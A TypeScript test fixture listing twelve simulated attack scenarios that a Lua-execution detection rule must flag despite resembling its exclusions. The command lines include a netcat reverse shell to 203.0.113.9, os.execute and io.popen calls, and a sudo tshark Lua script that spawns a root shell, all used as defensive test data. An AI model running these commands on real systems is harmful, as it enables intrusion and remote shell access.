import { run, type SampleScenario } from '../scenario.ts';

const bash = { path: '/usr/bin/bash', command: '-bash', parent: 'sshd' } as const;
const powershell = {
  path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  command: 'powershell.exe -NoProfile',
  parent: 'explorer.exe',
} as const;
const cmd = { path: 'C:\\Windows\\System32\\cmd.exe', command: 'cmd.exe', parent: 'explorer.exe' } as const;

function attack(
  id: string,
  device: SampleScenario['devices'][number],
  parent: SampleScenario['parent'],
  ...processes: SampleScenario['processes']
): SampleScenario {
  return { id, label: 'TP', devices: [device], parent, processes };
}

/** Attacks in the clothes of what the exclusions let pass: every exclusion has at least one that it must not take. */
export const lookalikes: readonly SampleScenario[] = [
  attack(
    'masquerade-world-of-warcraft',
    'game-ws-07',
    cmd,
    run('interpreter', 'C:\\Users\\Public\\Wow.exe', 'C:\\Users\\Public\\Wow.exe C:\\Users\\Public\\addon.lua'),
  ),
  attack(
    'masquerade-roblox-studio',
    'game-ws-07',
    powershell,
    run(
      'interpreter',
      ({ user }) => `C:\\Users\\${user}\\AppData\\Local\\Temp\\RobloxStudioBeta.exe`,
      ({ user }) => `"C:\\Users\\${user}\\AppData\\Local\\Temp\\RobloxStudioBeta.exe" update.lua`,
    ),
  ),
  attack(
    'redis-script-from-tmp',
    'cache-01',
    bash,
    run('client', '/usr/bin/redis-cli', 'redis-cli -h 10.20.8.14 --eval /tmp/.x.lua , 1'),
  ),
  attack(
    'nginx-child-shell',
    'web-01',
    { path: '/usr/local/openresty/nginx/sbin/nginx', command: 'nginx: worker process', parent: 'nginx' },
    run(
      'shell',
      '/usr/bin/dash',
      `sh -c lua -e 'local f = io.popen("id"); print(f:read("*a"))'`,
      run('interpreter', '/usr/local/bin/lua', `lua -e local f = io.popen("id"); print(f:read("*a"))`),
    ),
  ),
  attack(
    'resty-by-hand',
    'web-02',
    bash,
    run('resty', '/usr/bin/perl', `/usr/bin/perl /usr/local/openresty/bin/resty -e 'os.execute("id > /dev/shm/o")'`),
  ),
  attack(
    'kong-words-in-a-shell',
    'api-gw-01',
    bash,
    run(
      'shell',
      '/usr/bin/dash',
      `sh -c resty -e 'require("kong.cmd.init") os.execute("nc 203.0.113.9 443 -e /bin/sh")'`,
    ),
  ),
  attack(
    'tshark-script-from-tmp',
    'noc-lx-02',
    bash,
    run('sudo', '/usr/bin/sudo', 'sudo tshark -X lua_script:/tmp/pcap.lua', {
      ...run(
        'tshark',
        '/usr/bin/tshark',
        'tshark -X lua_script:/tmp/pcap.lua',
        run('shell', '/usr/bin/dash', 'sh -c /bin/sh'),
      ),
      account: 'system',
    }),
  ),
  attack(
    'ncat-lua-exec',
    'noc-lx-02',
    bash,
    run('listener', '/usr/bin/ncat', 'ncat -lk 8443 --lua-exec /var/tmp/.cache/echo.lua'),
  ),
  attack(
    'node-starts-luajit',
    'ci-runner-04',
    bash,
    run(
      'node',
      '/usr/bin/node',
      `node -e "require('child_process').execSync('luajit /dev/shm/.u')"`,
      run('interpreter', '/usr/bin/luajit-2.1.0-beta3', 'luajit /dev/shm/.u'),
    ),
  ),
  attack(
    'python-lua-binding',
    'dev-lx-11',
    bash,
    run('python', '/usr/bin/python3.11', `python3 -c import lupa; lupa.LuaRuntime().execute('os.execute("id")')`),
  ),
  attack(
    'masquerade-language-server',
    'dev-ws-102',
    cmd,
    run(
      'interpreter',
      ({ user }) => `C:\\Users\\${user}\\Downloads\\tools\\lua-language-server.exe`,
      'lua-language-server.exe run.lua',
    ),
  ),
  attack(
    'pandoc-filter-from-tmp',
    'doc-lx-01',
    bash,
    run('pandoc', '/usr/bin/pandoc', 'pandoc --lua-filter=/tmp/p.lua /dev/null'),
  ),
];
